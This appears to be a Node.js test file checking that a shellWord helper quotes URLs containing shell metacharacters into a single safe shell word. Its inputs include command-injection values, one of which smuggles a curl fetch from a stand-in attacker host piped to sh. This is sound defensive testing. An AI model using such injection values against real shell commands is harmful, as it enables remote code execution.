import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { describe, it } from 'node:test';
import { shellWord } from '../../../src/diagnostics/core/shell-word.js';

describe('a URL in a shell command', () => {
  it('is always a single shell word', () => {
    for (const address of [
      "https://x/;curl$IFS'evil.example'|sh",
      'https://x$(id)/`id`',
      'https://x/a b\n c',
      'https://x/"$HOME"&&!!#',
      'https://[::1]:8080/*?{a,b}',
      'https://x/\u{1f600}é',
    ]) {
      const word = shellWord(address);
      const printed = execFileSync('sh', ['-c', `printf '<%s>' ${word}`], { encoding: 'utf8' });
      assert.equal(printed, `<${word.replaceAll("'", '')}>`);
      assert.match(printed, /^<https:\/\/[\w.:/[\]%~-]+>$/);
    }
  });
});
